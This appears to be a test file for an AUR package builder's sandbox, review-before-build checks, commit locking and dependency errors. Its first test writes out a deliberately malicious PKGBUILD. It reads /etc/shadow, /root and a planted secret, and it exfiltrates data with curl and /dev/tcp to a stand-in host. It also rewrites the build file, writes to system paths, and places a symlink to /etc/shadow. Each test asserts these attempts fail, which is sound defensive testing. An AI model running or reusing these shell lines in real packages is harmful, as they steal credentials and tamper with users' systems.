import { expect } from "bun:test";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { dirname } from "node:path";
import { parseAurLock } from "../../../src/rastos/aur/lock-file.ts";
import { type AurWorld, makeAurWorld, needsAurWorld } from "../../support/aur-world.ts";
import { describeUnless, testUnless } from "../../support/skip.ts";

const TIMEOUT_MS = 90_000;

/** A file of a package. */
function contentOf(file: string | undefined, path: string): string {
  const read = Bun.spawnSync(["bsdtar", "-xOqf", file ?? "", path]);
  return read.stdout.toString();
}

testUnless(needsAurWorld())(
  "a malicious PKGBUILD finds no network, no home, nothing to write to, and no way out",
  async () => {
    await using world = makeAurWorld();
    const { work, aur } = world;
    const secret = work.write("home/secret", "the key");
    const source = aur.offer("plain.txt", "plain");
    aur.offer("stolen", "thanks");
    aur.offer("home-0", "nothing");
    aur.publish({
      base: "evil",
      fields: [`source = ${source.url}`, `sha256sums = ${source.sha256}`],
      // Beside the functions: this runs whenever makepkg reads the file, with the network too.
      script: `n=$(cat ${secret} /root/.* /etc/shadow /etc/machine-id 2>/dev/null | wc -c)
# Only where there is a network: what is built must be what was reviewed.
curl -fs -m 5 ${aur.url}/files/home-$n &&
  echo 'package() { curl ${aur.url}/changed; }' >> /files/PKGBUILD
can() { if "$@" >/dev/null 2>&1; then echo "can: $*"; else echo "cannot: $1"; fi; }
package() {
  mkdir -p "$pkgdir/usr/share"
  {
    can curl -fs -m 5 ${aur.url}/files/stolen
    can bash -c ': </dev/tcp/127.0.0.1/${new URL(aur.url).port}'
    can test -e ${secret}
    can ls /root
    can cat /etc/shadow
    can touch /usr/evil
    can touch /etc/evil
    can test -e /var/cache/rastos
    can mount -t tmpfs tmpfs /usr
    can bash -c '[ "$(ls -d /proc/[0-9]* | wc -l)" -gt 60 ]'
  } > "$pkgdir/usr/share/report"
  ln -s /etc/shadow /output/evil-2-1-any.pkg.tar.zst
}`,
    });
    const [file] = await world.build(["evil"]);
    const report = contentOf(file, "usr/share/report");
    expect(report).not.toContain("can: ");
    expect(report.match(/^cannot: /gm)?.length).toBe(10);
    expect(aur.asked.filter((path) => path.includes("home-"))).toEqual(["/files/home-0"]);
    expect(aur.asked).not.toContain("/changed");
    expect(aur.asked).not.toContain("/files/stolen");
    expect(existsSync("/usr/evil") || existsSync("/etc/evil")).toBe(false);
    // The link was not taken for a package.
    expect(readdirSync(dirname(file ?? "")).sort()).toEqual([
      "evil-1.0-1-any.pkg.tar.zst",
      "packages.json",
    ]);
  },
  TIMEOUT_MS,
);

testUnless(needsAurWorld())(
  "a package that its .SRCINFO does not name is not taken",
  async () => {
    await using world = makeAurWorld();
    world.aur.publish({
      base: "sudden",
      script: "pkgname=(sudden glibc)\npackage_sudden() { :; }\npackage_glibc() { :; }",
    });
    await expect(world.build(["sudden"])).rejects.toThrow(/it is the package "glibc"/);
  },
  TIMEOUT_MS,
);

testUnless(needsAurWorld())(
  "a build that fails says why; its log stays, its work does not",
  async () => {
    await using world = makeAurWorld();
    world.aur.publish({
      base: "broken",
      script: "build() { echo no such luck; false; }\npackage() { :; }",
    });
    const fault = await world.build(["broken"]).catch((error: unknown) => error);
    expect(fault).toMatchObject({ code: "E_BUILD" });
    expect((fault as Error).message).toStartWith('Cannot build "broken": A failure occurred');
    expect(readFileSync(world.work.at("cache/log/broken.log"), "utf8")).toContain("no such luck");
    expect(existsSync(world.work.at("cache/work"))).toBe(false);
  },
  TIMEOUT_MS,
);

describeUnless(needsAurWorld())("commits", () => {
  const script = 'package() { install -Dm644 /dev/stdin "$pkgdir/usr/v" <<<"$pkgver"; }';
  const publish = (world: AurWorld, version: string): string =>
    world.aur.publish({ base: "tool", version, script });
  const refuse = async (): Promise<boolean> => false;

  testUnless(undefined)(
    "what was reviewed is built until another commit is; a change is shown before it runs",
    async () => {
      await using world = makeAurWorld();
      const first = publish(world, "1.0");
      await expect(world.build(["tool"], { approve: undefined })).rejects.toMatchObject({
        code: "E_CONFIRM",
        message: 'Cannot build "tool": it has never been reviewed',
      });
      expect(existsSync(world.work.at("cache/packages/tool"))).toBe(false);
      const [file] = await world.build(["tool"]);
      expect(contentOf(file, "usr/v")).toBe("1.0\n");
      const lock = () =>
        parseAurLock("lock", readFileSync(world.work.at("aur.lock"), "utf8")).get("tool");
      expect(lock()).toEqual({ commit: first, packages: ["tool"] });
      const second = publish(world, "2.0");
      // Not even looked for.
      expect(await world.build(["tool"], { approve: refuse })).toEqual([file as string]);
      const update = world.build(["tool"], { approve: refuse, isUpdate: true });
      await expect(update).rejects.toThrow(`has changed since ${first}`);
      expect(lock()?.commit).toBe(first);
      world.reviews.length = 0;
      const [newer] = await world.build(["tool"], { isUpdate: true });
      expect(contentOf(newer, "usr/v")).toBe("2.0\n");
      expect(world.reviews).toMatchObject([{ base: "tool", from: first, to: second }]);
      expect(world.reviews[0]?.diff).toContain("-pkgver=1.0\n+pkgver=2.0");
      expect(lock()?.commit).toBe(second);
      // A commit by its full name is one that somebody has chosen; by less it is reviewed.
      const [older] = await world.build([`tool#${first}`], { approve: undefined });
      expect(older).toBe(file as string);
      const short = world.build([`tool#${second.slice(0, 8)}`], { approve: undefined });
      await expect(short).rejects.toMatchObject({ code: "E_CONFIRM" });
      const gone = world.build([`tool#${"0".repeat(40)}`]);
      await expect(gone).rejects.toMatchObject({ code: "E_NOT_FOUND" });
    },
    TIMEOUT_MS,
  );
});

describeUnless(needsAurWorld())("what cannot be built", () => {
  testUnless(undefined)(
    "is named, with a way on",
    async () => {
      await using world = makeAurWorld();
      const { aur } = world;
      const script = "package() { :; }";
      aur.publish({ base: "circle-a", fields: ["makedepends = circle-b"], script });
      aur.publish({ base: "circle-b", fields: ["depends = circle-a"], script });
      aur.publish({ base: "lonely", fields: ["depends = nowhere>=3"], script });
      aur.publish({ base: "one", fields: ["provides = either"], script });
      aur.publish({ base: "two", fields: ["provides = either"], script });
      aur.publish({ base: "choosy", fields: ["depends = either"], script });
      await expect(world.build(["circle-a"])).rejects.toThrow(/circle-a -> circle-b -> circle-a/);
      await expect(world.build(["lonely"])).rejects.toThrow(/needs "nowhere>=3"/);
      await expect(world.build(["choosy"])).rejects.toThrow(/one, two do/);
      await expect(world.build(["lonly"])).rejects.toMatchObject({
        code: "E_NOT_FOUND",
        message: 'Cannot find "lonly" in the AUR',
      });
      await expect(world.build(["../etc"])).rejects.toMatchObject({ code: "E_USAGE" });
      expect(world.reviews).toEqual([]);
    },
    TIMEOUT_MS,
  );
});
